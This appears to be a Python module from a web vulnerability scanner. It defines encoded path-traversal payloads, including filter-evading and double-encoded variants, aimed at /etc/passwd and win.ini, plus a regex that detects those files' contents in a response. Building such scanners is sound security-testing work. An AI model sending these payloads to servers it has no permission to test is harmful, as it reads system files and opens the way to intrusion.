"""Ways out of the folder in which a server keeps its files, and what shows that one led to a file. Pure."""

import re
from dataclasses import dataclass

UP = 12
"""Folders up to the root, from wherever a server keeps its files; further ones do no harm."""
CONTENT = re.compile(r"root:[^:\s]{0,200}:0:0:|\[fonts\]|for 16-bit app support")
"""What /etc/passwd and win.ini have in them since ever, and hardly any other text."""


@dataclass(frozen=True, slots=True, kw_only=True)
class TraversalForm:
    """``raw`` is a value as it goes onto the wire, ``lost`` the same way to a file that is not there. ``only_path``: in
    a query it says what another form has said.
    """

    name: str
    raw: str
    lost: str
    by_default: bool = True
    only_path: bool = False

    @property
    def words(self) -> str:
        """The value, shortened."""
        return self.raw if len(self.raw) < 20 else f"{self.name}…{self.raw[-12:]}"


def _form(
    name: str, way: str, *, slash: str = "%2f", by_default: bool = True, only_path: bool = False
) -> TraversalForm:
    return TraversalForm(
        name=name,
        raw=f"{way}etc{slash}passwd",
        lost=f"{way}etc{slash}specdrift",
        by_default=by_default,
        only_path=only_path,
    )


FORMS = (
    _form("..%2f", "..%2f" * UP),
    _form("%2e%2e%2f", "%2e%2e%2f" * UP, only_path=True),
    _form("%2f", "%2f"),
    _form("....%2f%2f", "....%2f%2f" * UP, by_default=False),
    _form("..%252f", "..%252f" * UP, slash="%252f", by_default=False),
    TraversalForm(
        name="..%5c",
        raw="..%5c" * UP + "windows%5cwin.ini",
        lost="..%5c" * UP + "windows%5cspecdrift",
        by_default=False,
    ),
)
"""The forms of one value, the likeliest first: relative, all of it encoded, absolute, and what filters miss."""


def reaches_file(text: str) -> bool:
    """Whether an answer holds what only a well-known file holds."""
    return CONTENT.search(text) is not None
